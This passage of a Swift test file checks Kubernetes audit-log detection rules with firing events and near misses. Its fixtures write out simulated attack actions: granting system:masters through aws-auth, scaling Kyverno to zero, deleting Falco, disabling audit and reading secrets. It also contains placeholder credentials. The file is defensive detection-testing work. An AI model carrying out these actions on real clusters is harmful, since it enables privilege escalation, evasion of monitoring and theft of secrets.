             misses: [change("create", "roles", ns: "shop", group: rbacGroup, body: roleObject(kind: "Role", rules: [(["create"], ["configmaps"])])),
                      change("create", "clusterroles", ns: nil, group: rbacGroup, body: roleObject(rules: [(["get", "list"], ["configmaps"])])),
                      change("update", "clusterroles", "ops", ns: nil, group: rbacGroup, body: roleObject(rules: [(["create"], ["configmaps"])]))]),
    RuleCase(rule: "System Role or Binding Modified or Deleted",
             fires: [change("patch", "clusterroles", "system:node", ns: nil, group: rbacGroup),
                     change("delete", "clusterrolebindings", "system:kube-dns", ns: nil, group: rbacGroup),
                     change("update", "clusterroles", "eks:node-manager", ns: nil, group: rbacGroup)],
             misses: [change("patch", "clusterroles", "ops", ns: nil, group: rbacGroup),
                      change("update", "clusterroles", "system:node", ns: nil, group: rbacGroup, user: "system:apiserver"),
                      change("create", "clusterroles", ns: nil, group: rbacGroup, body: roleObject(name: "system:custom", rules: [(["get"], ["pods"])]))]),
    RuleCase(rule: "Service Account Changed RBAC",
             fires: [change("create", "rolebindings", ns: "shop", group: rbacGroup, user: shopSA, groups: shopSAGroups,
                            body: bindingObject(kind: "RoleBinding", role: "view", subjects: [("User", "bob", nil)])),
                     change("delete", "clusterroles", "ops", ns: nil, group: rbacGroup, user: shopSA, groups: shopSAGroups)],
             misses: [change("create", "rolebindings", ns: "shop", group: rbacGroup, user: "system:serviceaccount:argocd:argocd-application-controller",
                             body: bindingObject(kind: "RoleBinding", role: "view", subjects: [("User", "bob", nil)])),
                      change("create", "rolebindings", ns: "shop", group: rbacGroup,
                             body: bindingObject(kind: "RoleBinding", role: "view", subjects: [("User", "bob", nil)])),
                      read("list", "rolebindings", ns: "shop", group: rbacGroup, user: shopSA, groups: shopSAGroups)]),
    RuleCase(rule: "RBAC Role Changed",
             fires: [change("delete", "roles", "ops", ns: "shop", group: rbacGroup),
                     change("create", "clusterroles", ns: nil, group: rbacGroup, body: roleObject(rules: [(["get"], ["pods"])]))],
             misses: [read("get", "roles", "ops", ns: "shop", group: rbacGroup),
                      change("delete", "roles", "ops", ns: "shop", group: "iam.example.com"),
                      change("update", "clusterroles", "admin", ns: nil, group: rbacGroup, user: "system:serviceaccount:kube-system:clusterrole-aggregation-controller")]),
    RuleCase(rule: "RBAC Binding Changed",
             fires: [change("create", "rolebindings", ns: "shop", group: rbacGroup,
                            body: bindingObject(kind: "RoleBinding", role: "view", subjects: [("User", "bob", nil)])),
                     change("delete", "clusterrolebindings", "ops-binding", ns: nil, group: rbacGroup)],
             misses: [change("create", "clusterrolebindings", ns: nil, group: rbacGroup, user: "eks:addon-manager"),
                      read("list", "clusterrolebindings", ns: nil, group: rbacGroup)]),
    RuleCase(rule: "Certificate Signing Request Approved",
             fires: [change("update", "certificatesigningrequests", "csr-mallory", ns: nil, group: "certificates.k8s.io", sub: "approval")],
             misses: [change("update", "certificatesigningrequests", "csr-8x2kq", ns: nil, group: "certificates.k8s.io", sub: "approval",
                             user: "system:serviceaccount:kube-system:certificate-controller"),
                      change("update", "certificatesigningrequests", "csr-8x2kq", ns: nil, group: "certificates.k8s.io", sub: "approval",
                             user: "eks:certificate-controller"),
                      read("get", "certificatesigningrequests", "csr-mallory", ns: nil, group: "certificates.k8s.io")]),
    RuleCase(rule: "Certificate Signing Request Created",
             fires: [change("create", "certificatesigningrequests", ns: nil, group: "certificates.k8s.io",
                            body: #"{"kind":"CertificateSigningRequest","spec":{"request":"LS0t","signerName":"kubernetes.io/kube-apiserver-client","usages":["client auth"]}}"#)],
             misses: [change("create", "certificatesigningrequests", ns: nil, group: "certificates.k8s.io", user: node7, groups: nodeGroups),
                      change("create", "certificatesigningrequests", ns: nil, group: "certificates.k8s.io", user: "system:bootstrap:abcdef",
                             groups: ["system:bootstrappers", "system:authenticated"])]),
    RuleCase(rule: "Service Account Token Requested",
             fires: [change("create", "serviceaccounts", "checkout", ns: "shop", sub: "token")],
             misses: [change("create", "serviceaccounts", "checkout", ns: "shop", sub: "token", user: node7, groups: nodeGroups),
                      read("get", "serviceaccounts", "checkout", ns: "shop"),
                      change("create", "serviceaccounts", "checkout", ns: "shop", sub: "token", decision: "forbid")]),
    RuleCase(rule: "Service Account Created in System Namespace",
             fires: [change("create", "serviceaccounts", ns: "kube-system")],
             misses: [change("create", "serviceaccounts", ns: "shop"),
                      change("create", "serviceaccounts", ns: "kube-system", user: "system:kube-controller-manager")]),
    RuleCase(rule: "Service Account Created or Deleted",
             fires: [change("delete", "serviceaccounts", "checkout", ns: "shop"),
                     change("create", "serviceaccounts", ns: "shop")],
             misses: [change("update", "serviceaccounts", "checkout", ns: "shop"),
                      change("create", "serviceaccounts", ns: "shop", user: "system:serviceaccount:kube-system:service-account-controller")]),
    RuleCase(rule: "EKS aws-auth ConfigMap Changed",
             fires: [change("patch", "configmaps", "aws-auth", ns: "kube-system",
                            body: #"{"data":{"mapUsers":"- userarn: arn:aws:iam::111122223333:user/mallory\n  groups: [system:masters]\n"}}"#)],
             misses: [change("patch", "configmaps", "aws-auth", ns: "kube-system", user: "eks:addon-manager"),
                      change("patch", "configmaps", "app-config", ns: "kube-system"),
                      read("get", "configmaps", "aws-auth", ns: "kube-system")]),

    // ---- 40-secrets-config.yaml ----
    RuleCase(rule: "Secret Read by Non-System Identity",
             fires: [read("get", "secrets", "db-password", ns: "shop"),
                     read("list", "secrets", ns: "shop", user: shopSA, groups: shopSAGroups)],
             misses: [read("get", "secrets", "shop-tls", ns: "shop", user: "system:serviceaccount:cert-manager:cert-manager"),
                      read("get", "secrets", "sh.helm.release.v1.shop.v3", ns: "shop"),
                      read("list", "secrets", ns: "shop", query: "labelSelector=owner%3Dhelm"),
                      read("watch", "secrets", ns: "shop", user: shopSA, groups: shopSAGroups),
                      read("get", "secrets", "db-password", ns: "shop", decision: "forbid"),
                      read("get", "secrets", "bootstrap-token-abcdef", ns: "kube-system", user: "system:serviceaccount:kube-system:bootstrap-signer")]),
    RuleCase(rule: "Secrets Listed Across Cluster or in kube-system",
             fires: [read("list", "secrets", ns: nil, query: "limit=500"),
                     read("list", "secrets", ns: "kube-system", user: shopSA, groups: shopSAGroups)],
             misses: [read("list", "secrets", ns: "shop"),
                      read("get", "secrets", "db-password", ns: "kube-system"),
                      read("list", "secrets", ns: nil, user: "system:serviceaccount:ingress-nginx:ingress-nginx")]),
    RuleCase(rule: "Secret Read Denied",
             fires: [read("get", "secrets", "db-password", ns: "shop", user: shopSA, groups: shopSAGroups, decision: "forbid"),
                     read("list", "secrets", ns: "kube-system", decision: "forbid")],
             misses: [read("get", "secrets", "db-password", ns: "shop", user: shopSA, groups: shopSAGroups),
                      read("get", "secrets", "web-token", ns: "shop", user: node7, groups: nodeGroups, decision: "forbid")]),
    RuleCase(rule: "Secret Changed",
             fires: [change("create", "secrets", ns: "shop"),
                     change("delete", "secrets", "db-password", ns: "shop")],
             misses: [change("create", "secrets", "sh.helm.release.v1.shop.v4", ns: "shop"),
                      change("create", "secrets", ns: "shop", user: "system:serviceaccount:kube-system:token-cleaner"),
                      read("get", "secrets", "db-password", ns: "shop")]),
    RuleCase(rule: "ConfigMap With Credentials",
             fires: [change("create", "configmaps", ns: "shop", body: configMap(#"{"AWS_ACCESS_KEY_ID":"AKIAIOSFODNN7EXAMPLE","region":"eu-west-1"}"#)),
                     change("patch", "configmaps", "app-config", ns: "shop", body: #"{"data":{"db.Password":"hunter2"}}"#),
                     change("update", "configmaps", "app-config", ns: "shop",
                            body: configMap(#"{"tls.key":"-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\n"}"#))],
             misses: [change("create", "configmaps", ns: "shop", body: configMap(#"{"log_level":"debug","feature.flags":"a,b"}"#)),
                      change("create", "configmaps", ns: "shop"),
                      change("create", "configmaps", ns: "shop", body: configMap(#"{"password":"x"}"#), decision: "forbid")]),
    RuleCase(rule: "Cluster DNS Configuration Changed",
             fires: [change("update", "configmaps", "coredns", ns: "kube-system"),
                     change("delete", "configmaps", "coredns-custom", ns: "kube-system")],
             misses: [change("update", "configmaps", "coredns", ns: "kube-system", user: "eks:addon-manager"),
                      change("update", "configmaps", "coredns", ns: "shop"),
                      read("get", "configmaps", "coredns", ns: "kube-system")]),
    RuleCase(rule: "ConfigMap Created or Deleted",
             fires: [change("create", "configmaps", ns: "shop", body: configMap(#"{"a":"b"}"#)),
                     change("delete", "configmaps", "app-config", ns: "shop")],
             misses: [change("update", "configmaps", "app-config", ns: "shop"),
                      change("create", "configmaps", ns: "shop", user: "system:kube-controller-manager")]),

    // ---- 50-cluster.yaml ----
    RuleCase(rule: "Admission Webhook Configuration Changed",
             fires: [change("create", "mutatingwebhookconfigurations", ns: nil, group: "admissionregistration.k8s.io"),
                     change("delete", "validatingwebhookconfigurations", "kyverno-resource-validating-webhook-cfg", ns: nil,
                            group: "admissionregistration.k8s.io"),
                     change("delete", "validatingadmissionpolicybindings", "deny-privileged", ns: nil, group: "admissionregistration.k8s.io")],
             misses: [change("patch", "mutatingwebhookconfigurations", "cert-manager-webhook", ns: nil, group: "admissionregistration.k8s.io",
                             user: "system:serviceaccount:cert-manager:cert-manager-cainjector"),
                      read("list", "validatingwebhookconfigurations", ns: nil, group: "admissionregistration.k8s.io"),
                      change("create", "mutatingwebhookconfigurations", ns: nil, group: "admissionregistration.k8s.io", decision: "forbid")]),
    RuleCase(rule: "NodePort Service Created",
             fires: [change("create", "services", ns: "shop", body: serviceObject(type: "NodePort", nodePort: 30080)),
                     change("patch", "services", "web", ns: "shop", body: #"{"spec":{"type":"NodePort"}}"#)],
             misses: [change("create", "services", ns: "shop", body: serviceObject()),
                      change("create", "services", ns: "shop", body: serviceObject(type: "LoadBalancer")),
                      change("create", "services", ns: "kube-system", user: "system:addon-manager", body: serviceObject(type: "NodePort"))]),
    RuleCase(rule: "Sensitive App Exposed via LoadBalancer",
             fires: [change("create", "services", "kubernetes-dashboard", ns: "kubernetes-dashboard",
                            body: serviceObject(name: "kubernetes-dashboard", type: "LoadBalancer")),
                     change("patch", "services", "redis-master", ns: "shop", body: #"{"spec":{"type":"LoadBalancer"}}"#)],
             misses: [change("patch", "services", "web", ns: "shop", body: #"{"spec":{"type":"LoadBalancer"}}"#),
                      change("patch", "services", "redis-master", ns: "shop", body: #"{"spec":{"type":"ClusterIP"}}"#)]),
    RuleCase(rule: "Ingress Without TLS Created",
             fires: [change("create", "ingresses", ns: "shop", group: "networking.k8s.io", body: ingress(tls: false))],
             misses: [change("create", "ingresses", ns: "shop", group: "networking.k8s.io", body: ingress(tls: true)),
                      change("create", "ingresses", ns: "shop", group: "networking.k8s.io")]),
    RuleCase(rule: "Service Created or Deleted",
             fires: [change("create", "services", ns: "shop", body: serviceObject()),
                     change("delete", "services", "web", ns: "shop")],
             misses: [change("update", "services", "web", ns: "shop", body: serviceObject()),
                      change("create", "services", ns: "default", user: "system:apiserver")]),
    RuleCase(rule: "Namespace Created",
             fires: [change("create", "namespaces", ns: nil)],
             misses: [change("create", "namespaces", ns: nil, user: "system:apiserver"),
                      change("delete", "namespaces", "shop", ns: nil)]),
    RuleCase(rule: "Kubernetes Events Deleted",
             fires: [change("delete", "events", "web.17c8a1b2c3d4e5f6", ns: "shop"),
                     change("deletecollection", "events", ns: "shop", group: "events.k8s.io")],
             misses: [change("deletecollection", "events", ns: "shop", user: "system:serviceaccount:kube-system:namespace-controller"),
                      read("list", "events", ns: "shop")]),
    RuleCase(rule: "Namespace Deleted",
             fires: [change("delete", "namespaces", "shop", ns: nil)],
             misses: [change("create", "namespaces", ns: nil),
                      change("delete", "namespaces", "shop", ns: nil, decision: "forbid")]),
    RuleCase(rule: "Collection Deleted",
             fires: [change("deletecollection", "pods", ns: "shop"),
                     change("deletecollection", "secrets", ns: "shop", user: shopSA, groups: shopSAGroups)],
             misses: [change("delete", "pods", "web", ns: "shop"),
                      change("deletecollection", "pods", ns: "shop", user: "system:serviceaccount:kube-system:namespace-controller")]),
    RuleCase(rule: "Security Tooling Tampered",
             fires: [change("delete", "daemonsets", "falco", ns: "falco", group: "apps"),
                     change("delete", "namespaces", "kyverno", ns: nil),
                     change("patch", "deployments", "kyverno-admission-controller", ns: "kyverno", group: "apps", sub: "scale",
                            body: #"{"spec":{"replicas":0}}"#)],
             misses: [change("update", "daemonsets", "falco", ns: "falco", group: "apps", sub: "status"),
                      change("delete", "daemonsets", "agent", ns: "shop", group: "apps"),
                      change("delete", "daemonsets", "falco", ns: "falco", group: "apps", user: "system:serviceaccount:kube-system:generic-garbage-collector")]),
    RuleCase(rule: "Audit Configuration Changed",
             fires: [change("delete", "auditsinks", "mysink", ns: nil, group: "auditregistration.k8s.io", code: 200),
                     change("patch", "apiservers", "cluster", ns: nil, group: "config.openshift.io",
                            body: #"{"spec":{"audit":{"profile":"None"}}}"#)],
             misses: [read("get", "auditsinks", "mysink", ns: nil, group: "auditregistration.k8s.io"),
                      change("patch", "apiservers", "cluster", ns: nil, group: "example.com")]),
]

// MARK: - Tests

final class DefaultRulesTests: XCTestCase {
    func testEveryRuleFiresOnItsEventsAndNotOnNearMisses() {
        for c in defaultRuleCases {
            var set: CompiledRuleSet?
            if let overrides = c.overrides {
                set = DefaultRuleSet.load(adding: [RuleFile(path: "<test>/\(c.rule).yaml", text: overrides)])
            } else {
                set = DefaultRuleSet.ruleSet()
            }
            guard let set else { continue }
            for (i, event) in c.fires.enumerated() {
                let fired = firedRules(event, ruleSet: set)
                XCTAssertTrue(fired.contains(c.rule), "'\(c.rule)' did not fire on event \(i) (fired: \(fired.sorted())):\n\(event)")
            }
            for (i, event) in c.misses.enumerated() {
                let fired = firedRules(event, ruleSet: set)
                XCTAssertFalse(fired.contains(c.rule), "'\(c.rule)' fired on near miss \(i):\n\(event)")
            }
        }
    }

    func testEveryRuleHasATableEntryWithFiringEventsAndNearMisses() throws {
        let set = try XCTUnwrap(DefaultRuleSet.ruleSet())
        let names = set.rules.map(\.name)
        var seen: Set<String> = []
        for c in defaultRuleCases {
            XCTAssertTrue(names.contains(c.rule), "the table tests '\(c.rule)', which is not in the default ruleset")
            XCTAssertNil(set.rules.first { $0.name == c.rule }?.aggregate, "'\(c.rule)' is stateful: single events cannot test it")
            XCTAssertTrue(seen.insert(c.rule).inserted, "the table has two entries for '\(c.rule)'")
            XCTAssertFalse(c.fires.isEmpty, "'\(c.rule)' has no event that fires it")
            XCTAssertFalse(c.misses.isEmpty, "'\(c.rule)' has no near miss")
        }
        // Stateful rules (aggregate:) alert on groups of events; their tests live with the stateful engine.
        for rule in set.rules where rule.enabled && rule.aggregate == nil {
            XCTAssertTrue(seen.contains(rule.name), "rule '\(rule.name)' has no entry in defaultRuleCases (DefaultRulesTests.swift)")
        }
    }

    func testRulesWithoutOverridesDoNotNeedThem() throws {
        // Rules tested with overrides must not fire on their firing events without them: the override is
        // what the test exercises (an empty list, a disabled rule).
        for c in defaultRuleCases where c.overrides != nil {
            for event in c.fires {
                XCTAssertFalse(firedRules(event).contains(c.rule), "'\(c.rule)' fires without its test overrides")
            }
        }
    }

    func testEveryRuleHasADescriptionATechniqueAndACategory() throws {
        let set = try XCTUnwrap(DefaultRuleSet.ruleSet())
        let categories: Set<String> = ["initial-access", "execution", "persistence", "privilege-escalation", "defense-evasion",
                                       "credential-access", "discovery", "lateral-movement", "collection", "impact", "exposure",
                                       "audit-trail"]
        for rule in set.rules {
            XCTAssertFalse(rule.description.trimmingCharacters(in: .whitespacesAndNewlines).isEmpty, "'\(rule.name)' has no desc")
            XCTAssertTrue(rule.tags.contains("k8s"), "'\(rule.name)' lacks the k8s tag")
            let techniques = rule.tags.filter { $0.range(of: #"^T1[0-9]{3}(\.[0-9]{3})?$"#, options: .regularExpression) != nil }
            XCTAssertFalse(techniques.isEmpty, "'\(rule.name)' has no MITRE ATT&CK technique tag")
            XCTAssertEqual(rule.tags.filter { categories.contains($0) }.count, 1, "'\(rule.name)' needs exactly one category tag")
            XCTAssertEqual(rule.source, "k8s_audit")
            if rule.tags.contains("audit-trail") {
                XCTAssertEqual(rule.priority, .informational, "audit-trail rule '\(rule.name)' should be informational")
            }
        }
    }

    /// Each request gives one alert however many stages the API server wrote for it.
    func testOneAlertPerRequestAcrossStages() {
        func count(_ rule: String, _ events: [String]) -> Int {
            events.filter { firedRules($0).contains(rule) }.count
        }
        let execStages = [execEvent(["sh"], stage: "RequestReceived", code: nil),
                          execEvent(["sh"], stage: "ResponseStarted", code: 101),
                          execEvent(["sh"], stage: "ResponseComplete", code: 101)]
        XCTAssertEqual(count("Exec Into Pod", execStages), 1)
        let deniedExec = [execEvent(["sh"], stage: "RequestReceived", code: nil, decision: nil),
                          execEvent(["sh"], stage: "ResponseComplete", code: 403, decision: "forbid")]
        XCTAssertEqual(count("Request Forbidden", deniedExec), 1)
        let watchStages = [read("watch", "secrets", ns: "shop").replacingOccurrences(of: "ResponseComplete", with: "ResponseStarted"),
                           read("watch", "secrets", ns: "shop")]
        XCTAssertEqual(count("Anonymous Access Allowed", watchStages.map {
            $0.replacingOccurrences(of: #""username":"alice@example.com""#, with: #""username":"system:anonymous""#)
        }), 1)
        let create = [podCreated(podObject(hostPID: true)).replacingOccurrences(of: "ResponseComplete", with: "RequestReceived"),
                      podCreated(podObject(hostPID: true))]
        XCTAssertEqual(count("Host PID Pod Created", create), 1)
    }

    /// Overrides of the kinds README.md documents take effect.
    func testTuningOverridesTakeEffect() throws {
        let tuning = """
        - rule: Exec Into Pod
          exceptions:
            - name: backup_hooks
              fields: [ka.user.name, ka.target.namespace]
              values:
                - [system:serviceaccount:velero:velero, databases]
          override:
            exceptions: append
        - rule: NodePort Service Created
          priority: NOTICE
          override:
            priority: replace
        - rule: Impersonation Used
          enabled: false
        - list: ah_trusted_secret_readers
          items: [system:serviceaccount:vault:vault-agent-injector]
          override:
            items: append
        - macro: ah_system_identity
          condition: or ka.user.name startswith "system:serviceaccount:platform-"
          override:
            condition: append
        - macro: ah_once
          condition: ka.stage = ResponseComplete
        """
        let set = try XCTUnwrap(DefaultRuleSet.load(adding: [RuleFile(path: "<test>/tuning.yaml", text: tuning)]))
        let velero = "system:serviceaccount:velero:velero"
        XCTAssertFalse(firedRules(execEvent(["sh"], namespace: "databases", user: velero, stage: "ResponseComplete"), ruleSet: set)
            .contains("Exec Into Pod"))
        XCTAssertTrue(firedRules(execEvent(["sh"], namespace: "shop", user: velero, stage: "ResponseComplete"), ruleSet: set)
            .contains("Exec Into Pod"))
        // With ah_once replaced, the stream's ResponseStarted no longer counts.
        XCTAssertFalse(firedRules(execEvent(["sh"], namespace: "shop", user: velero), ruleSet: set).contains("Exec Into Pod"))
        XCTAssertEqual(set.rules.first { $0.name == "NodePort Service Created" }?.priority, .notice)
        XCTAssertEqual(set.rules.first { $0.name == "Impersonation Used" }?.enabled, false)
        XCTAssertFalse(firedRules(read("get", "secrets", "x", user: "system:serviceaccount:vault:vault-agent-injector"), ruleSet: set)
            .contains("Secret Read by Non-System Identity"))
        XCTAssertFalse(firedRules(read("get", "secrets", "x", user: "system:serviceaccount:platform-a:agent"), ruleSet: set)
            .contains("Secret Read by Non-System Identity"))
        XCTAssertTrue(firedRules(read("get", "secrets", "x", user: shopSA, groups: shopSAGroups), ruleSet: set)
            .contains("Secret Read by Non-System Identity"))
    }

    /// The tuning examples of rules/README.md load on top of the default ruleset without diagnostics.
    func testReadmeTuningExamplesLoad() throws {
        let url = EmbeddedRulesTests.rulesDirectory.appendingPathComponent("README.md")
        let text = try String(contentsOf: url, encoding: .utf8)
        var blocks: [String] = []
        var current: [Substring]? = nil
        for line in text.split(separator: "\n", omittingEmptySubsequences: false) {
            if current == nil, line == "```yaml" {
                current = []
            } else if current != nil, line == "```" {
                blocks.append(current!.joined(separator: "\n"))
                current = nil
            } else if current != nil {
                current!.append(line)
            }
        }
        XCTAssertGreaterThanOrEqual(blocks.count, 4, "README.md should show its tuning examples as ```yaml blocks")
        for (i, block) in blocks.enumerated() {
            let result = RuleCompiler.load(DefaultRules.files + [RuleFile(path: "<README example \(i)>", text: block)])
            let problems = result.diagnostics.filter { $0.severity != .notice }
            XCTAssertTrue(problems.isEmpty, "README example \(i) does not load cleanly:\n\(block)\n"
                          + problems.map(\.description).joined(separator: "\n"))
        }
    }

    /// The audit policy shipped next to the rules parses as YAML and keeps secrets out of bodies.
    func testAuditPolicyIsYAMLAndLogsSecretsAtMetadata() throws {
        let url = EmbeddedRulesTests.rulesDirectory.appendingPathComponent("audit-policy.yaml")
        let text = try String(contentsOf: url, encoding: .utf8)
        guard case .mapping(let pairs, _)? = try YAMLReader.parse(text) else {
            return XCTFail("audit-policy.yaml is not a YAML mapping")
        }
        let top = Dictionary(pairs.map { ($0.0.value, $0.1) }, uniquingKeysWith: { a, _ in a })
        guard case .scalar(let kind)? = top["kind"], case .scalar(let version)? = top["apiVersion"] else {
            return XCTFail("audit-policy.yaml lacks kind/apiVersion")
        }
        XCTAssertEqual(kind.value, "Policy")
        XCTAssertEqual(version.value, "audit.k8s.io/v1")
        guard case .sequence(let rules, _)? = top["rules"] else { return XCTFail("audit-policy.yaml has no rules") }
        // The first rule that mentions secrets must log them at Metadata (or drop them).
        var secretLevel: String?
        for rule in rules {
            guard case .mapping(let rp, _) = rule else { continue }
            let r = Dictionary(rp.map { ($0.0.value, $0.1) }, uniquingKeysWith: { a, _ in a })
            guard case .sequence(let groups, _)? = r["resources"] else { continue }
            for g in groups {
                guard case .mapping(let gp, _) = g else { continue }
                for (k, v) in gp where k.value == "resources" {
                    if case .sequence(let items, _) = v, items.contains(where: { if case .scalar(let s) = $0 { return s.value == "secrets" } else { return false } }),
                       secretLevel == nil, case .scalar(let level)? = r["level"] {
                        secretLevel = level.value
                    }
                }
            }
        }
        XCTAssertEqual(secretLevel, "Metadata")
    }
}
